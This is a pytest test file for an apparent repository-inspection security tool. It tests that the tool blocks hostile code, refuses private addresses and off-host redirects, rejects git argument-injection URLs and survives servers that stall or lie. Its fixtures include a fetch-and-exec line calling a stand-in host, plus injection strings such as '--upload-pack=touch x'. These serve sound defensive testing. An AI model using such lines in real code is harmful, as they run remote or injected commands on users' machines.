"""`inspect clone` against the real git's own server: into memory, from that place alone, within its limits."""

import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from sekisho.errors import SekishoError
from sekisho.inspection.fetch.clone import clone
from sekisho.inspection.fetch.https import NotFetched, _is_public, parse_place
from sekisho.inspection.virtual import Form
from support.command import sekisho
from support.git_server import Reply, Spoil, bare_repository, certificate, git, git_server

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

LONG = "".join(f"# line {n}\n" for n in range(3000))
HONEST = {"app.py": f"print(1)\n{LONG}", "lib/more.py": LONG + "x = 1\n", "README.md": "hello"}
HOSTILE = {**HONEST, "evil.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"}


@pytest.fixture(scope="module")
def pem(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    made = certificate(tmp_path_factory.mktemp("certificate"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SSL_CERT_FILE", str(made))
        yield made


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return bare_repository(tmp_path_factory.mktemp("honest"), HONEST).parent


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return bare_repository(tmp_path_factory.mktemp("hostile"), HOSTILE).parent


@pytest.mark.parametrize("ref", ["", "main", "other", "v1"])
def test_the_files_are_those_that_git_would_check_out(honest: Path, pem: Path, ref: str) -> None:
    with git_server(honest, pem) as address:
        fetched = clone(f"{address}/test.git", ref, private=True)
    assert {each.path: each.data.decode() for each in fetched.tree} == HONEST
    assert fetched.intake.gaps == ()


def test_links_modes_and_archives_come_as_well(tmp_path: Path, pem: Path) -> None:
    bare = bare_repository(tmp_path, HONEST)
    work = tmp_path / "work"
    (work / "run.sh").write_text("echo hi\n")
    (work / "run.sh").chmod(0o755)
    (work / "link").symlink_to("/etc/passwd")
    shutil.make_archive(str(tmp_path / "packed"), "zip", work, "lib")
    shutil.copy(tmp_path / "packed.zip", work / "packed.zip")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "more")
    git(work, "push", "-q", str(bare), "main")
    with git_server(bare.parent, pem) as address:
        fetched = clone(f"{address}/test.git", private=True)
    tree = {each.path: each for each in fetched.tree}
    assert tree["run.sh"].executable
    assert (tree["link"].form, tree["link"].target) == (Form.LINK, "/etc/passwd")
    assert "packed.zip!/lib/more.py" in {each.path for each in fetched.intake.files}


def test_a_repository_that_blocks_is_not_written(hostile: Path, pem: Path, tmp_path: Path) -> None:
    with git_server(hostile, pem) as address:
        done = sekisho("inspect", "clone", f"{address}/test.git", tmp_path / "new", "--private")
    assert done.status == 1
    assert done.out.startswith("BLOCK\n")
    assert "evil.py:2" in done.out
    assert "was not written" in done.err
    assert list(tmp_path.iterdir()) == []


def test_an_honest_one_is_written_as_plain_files(honest: Path, pem: Path, tmp_path: Path) -> None:
    with git_server(honest, pem) as address:
        done = sekisho("inspect", "clone", f"{address}/test.git", tmp_path / "new", "--private")
        again = sekisho("inspect", "clone", f"{address}/test.git", tmp_path / "new", "--private")
    assert done.status == 0
    assert done.out.startswith("NO CHAIN FOUND\n")
    written = {str(p.relative_to(tmp_path / "new")): p for p in (tmp_path / "new").rglob("*") if p.is_file()}
    assert {name: path.read_text() for name, path in written.items()} == HONEST
    assert not any(path.stat().st_mode & 0o111 for path in written.values())
    assert again.status == 2  # it is there already


def test_nothing_is_started_and_nothing_written_while_it_is_fetched(honest: Path, pem: Path) -> None:
    with git_server(honest, pem) as address:
        code = f"""
import os, sys
from sekisho.inspection.fetch.clone import clone
seen = []
def watch(event, arguments):
    if event in ("subprocess.Popen", "os.posix_spawn", "os.exec", "os.system", "os.fork", "os.mkdir"):
        seen.append(event)
    elif event == "open" and isinstance(arguments[0], str) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        seen.append(arguments[0])
sys.addaudithook(watch)
print(len(clone("{address}/test.git", private=True).tree), seen)
"""
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout == "3 []\n", done.stderr


def test_a_private_address_is_asked_only_if_the_reader_says_so(honest: Path, pem: Path) -> None:
    with git_server(honest, pem) as address, pytest.raises(NotFetched, match="private network"):
        clone(f"{address}/test.git")


PRIVATE = ["127.0.0.1", "10.1.2.3", "192.168.0.1", "172.16.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "::1",
           "fe80::1%eth0", "fd00::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::", "224.0.0.1", "ff02::1",
           "64:ff9b::127.0.0.1", "64:ff9b::a9fe:a9fe",
           "64:ff9b:1::1", "2002:7f00:1::1", "2001::7f00:1", "::127.0.0.1", "fec0::1"]  # fmt: skip


@pytest.mark.parametrize("address", PRIVATE)
def test_private_addresses(address: str) -> None:
    assert not _is_public(address)


@pytest.mark.parametrize("address", ["140.82.121.4", "2606:50c0:8000::153", "64:ff9b::140.82.121.4"])
def test_public_addresses(address: str) -> None:
    assert _is_public(address)


def test_a_name_that_leads_to_both_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    both = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (host, 443)) for host in ("140.82.121.4", "127.0.0.1")]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: both)
    monkeypatch.setattr(socket, "create_connection", lambda *_: pytest.fail("a connection was made"))
    with pytest.raises(NotFetched, match=r"127\.0\.0\.1 is an address of a private network"):
        clone("https://a.invalid/test.git")


def moved(to: str) -> Spoil:
    return lambda path, reply: Reply(302, (("Location", to),), b"") if "/old" in path else reply


def test_a_server_may_move_a_repository_within_itself(honest: Path, pem: Path) -> None:
    with git_server(honest, pem, moved("/test.git/info/refs?service=git-upload-pack")) as address:
        assert len(clone(f"{address}/old", private=True).tree) == 3


ELSEWHERE = {
    "another host": "https://a.invalid/test.git/info/refs?service=git-upload-pack",
    "another port": "https://127.0.0.1:1/test.git/info/refs?service=git-upload-pack",
    "no encryption": "http://127.0.0.1/test.git/info/refs?service=git-upload-pack",
    "another scheme": "file:///etc/passwd",
    "another path": "/etc/passwd",
    "itself": "/old/info/refs?service=git-upload-pack",
    "nothing": "",
    "no URL": "https://[",
}


@pytest.mark.parametrize("to", ELSEWHERE.values(), ids=ELSEWHERE)
def test_no_redirect_leads_elsewhere(honest: Path, pem: Path, to: str) -> None:
    with git_server(honest, pem, moved(to)) as address, pytest.raises(NotFetched, match="points"):
        clone(f"{address}/old", private=True)


URLS = [
    "http://a.invalid/x", "git://a.invalid/x", "ssh://a.invalid/x", "git@a.invalid:x", "file:///etc", "/etc", "",
    "https://", "https://user:secret@a.invalid/x", "https://token@a.invalid/x", "https://a.invalid:x/x",
    "https://a.invalid/x?y", "https://a.invalid/x#y", "https://a.invalid/\n", "https://a\u3002invalid/x",
    "--upload-pack=touch x", "ext::sh -c echo",
]  # fmt: skip


@pytest.mark.parametrize("url", URLS)
def test_only_https_is_fetched_and_no_password_is_shown(url: str) -> None:
    with pytest.raises(NotFetched) as raised:
        parse_place(url)
    assert "secret" not in str(raised.value)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize("ref", ["nowhere", "../x", "-x", "a b", "a\nb", "x" * 300])
def test_a_ref_that_is_not_there_or_none(honest: Path, pem: Path, ref: str) -> None:
    with git_server(honest, pem) as address, pytest.raises(NotFetched):
        clone(f"{address}/test.git", ref, private=True)


def test_a_certificate_that_nobody_vouches_for(honest: Path, pem: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", "/dev/null")
    with git_server(honest, pem) as address, pytest.raises(NotFetched, match="no answer"):
        clone(f"{address}/test.git", private=True)


def test_an_answer_that_is_too_long(honest: Path, pem: Path) -> None:
    with git_server(honest, pem) as address, pytest.raises(NotFetched, match="longer than 1000 bytes"):
        clone(f"{address}/test.git", private=True, most=1000)


def test_what_is_not_there(honest: Path, pem: Path) -> None:
    with git_server(honest, pem) as address, pytest.raises(NotFetched, match="404"):
        clone(f"{address}/nothing.git", private=True)


def test_a_server_that_drips_is_left(pem: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Byte after byte, in time for every single one, and never done."""
    monkeypatch.setattr("sekisho.inspection.fetch.https.DEADLINE", 1.0)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pem)
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def drip() -> None:
            raw, _ = listening.accept()
            with suppress(OSError), context.wrap_socket(raw, server_side=True) as visitor:
                for _ in range(600):
                    visitor.sendall(b"H")
                    time.sleep(0.05)

        thread = threading.Thread(target=drip, daemon=True)
        thread.start()
        began = time.monotonic()
        with pytest.raises(NotFetched, match="no answer"):
            clone(f"https://127.0.0.1:{listening.getsockname()[1]}/x", private=True)
        assert time.monotonic() - began < 10
        thread.join(40)


def test_a_server_that_drips_before_a_word_is_said_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    """A record of the handshake that never ends."""
    monkeypatch.setattr("sekisho.inspection.fetch.https.DEADLINE", 1.0)
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def drip() -> None:
            raw, _ = listening.accept()
            with suppress(OSError), raw:
                raw.sendall(b"\x16\x03\x03\x3f\xff")
                for _ in range(600):
                    raw.sendall(b"\x02")
                    time.sleep(0.05)

        thread = threading.Thread(target=drip, daemon=True)
        thread.start()
        began = time.monotonic()
        with pytest.raises(NotFetched, match="no answer"):
            clone(f"https://127.0.0.1:{listening.getsockname()[1]}/x", private=True)
        assert time.monotonic() - began < 10
        thread.join(40)


def pack_only(change: Spoil) -> Spoil:
    return lambda path, reply: change(path, reply) if b"PACK" in reply.body else reply


LIES: dict[str, Spoil] = {
    "it answers with a page": lambda _, reply: reply._replace(body=b"<html>sign in</html>"),
    "it answers nothing": lambda _, reply: reply._replace(body=b""),
    "it speaks an old protocol": lambda _, reply: reply._replace(body=reply.body.replace(b"version 2", b"version 1")),
    "it names objects otherwise": lambda _, reply: reply._replace(body=reply.body.replace(b"=sha1", b"=md55")),
    "it says it cannot": lambda _, reply: reply._replace(body=b"000fERR no\x1b[2J"),
    "it answers with an error": lambda _, reply: reply._replace(status=500),
    "its pack ends early": pack_only(lambda _, reply: reply._replace(body=reply.body[:-300])),
    "its pack is damaged": pack_only(lambda _, reply: reply._replace(body=reply.body.replace(b"PACK", b"PACL"))),
    "it gives up": pack_only(lambda _, reply: reply._replace(body=b"000dpackfile\n0009\x03no\x1b0000")),
    "it sends no pack": pack_only(lambda _, reply: reply._replace(body=b"000dpackfile\n0000")),
    "it sends another pack": pack_only(
        lambda _, reply: reply._replace(
            body=b"000dpackfile\n0025\x01PACK\0\0\0\x02\0\0\0\0"
            + bytes.fromhex("029d08823bd8a8eab510ad6ac75c823cfd3ed31e")
            + b"0000"
        )
    ),
}


@pytest.mark.parametrize("spoil", LIES.values(), ids=LIES)
def test_a_server_that_lies_gets_no_answer_from_us(honest: Path, pem: Path, spoil: Spoil) -> None:
    with git_server(honest, pem, spoil) as address:
        with pytest.raises(SekishoError) as raised:
            clone(f"{address}/test.git", private=True)
        assert str(raised.value).isprintable()
        assert sekisho("inspect", "clone", f"{address}/test.git", "--private").no_answer
